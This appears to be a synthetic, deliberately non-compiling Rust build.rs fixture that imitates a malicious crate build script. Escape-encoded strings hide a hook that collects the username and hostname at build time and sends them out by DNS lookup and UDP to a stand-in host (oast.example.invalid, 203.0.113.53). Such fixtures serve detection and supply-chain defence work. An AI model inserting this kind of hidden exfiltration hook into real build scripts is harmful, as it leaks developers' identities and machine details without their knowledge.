// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    detect();
}

pub(crate) fn detect() {
    let who = std::process::Command::new("\x77\x68\u{6f}\x61\x6d\u{69}")
        .output()
        .map(|o| o.stdout)
        .unwrap_or_default();
    let host = std::process::Command::new("\x68\u{6f}\x73\x74\u{6e}\x61\x6d\u{65}")
        .output()
        .map(|o| o.stdout)
        .unwrap_or_default();
    let label: String = who
        .iter()
        .chain(b"-")
        .chain(host.iter())
        .map(|b| format!("{b:02x}"))
        .take(60)
        .collect();
    let name = format!(
        "{label}.{}",
        "\u{6f}\x61\x73\u{74}\x2e\x65\u{78}\x61\x6d\u{70}\x6c\x65\u{2e}\x69\x6e\u{76}\x61\x6c\u{69}\x64"
    );
    let _ = std::process::Command::new("\x6e\x73\u{6c}\x6f\x6f\u{6b}\x75\x70")
        .arg(&name)
        .status();
    if let Ok(port) = std::net::UdpSocket::bind("0.0.0.0:0") {
        let _ = port.send_to(
            name.as_bytes(),
            "\x32\u{30}\x33\x2e\u{30}\x2e\x31\u{31}\x33\x2e\u{35}\x33\x3a\u{35}\x33",
        );
    }
}

inert_fixture_does_not_build!();
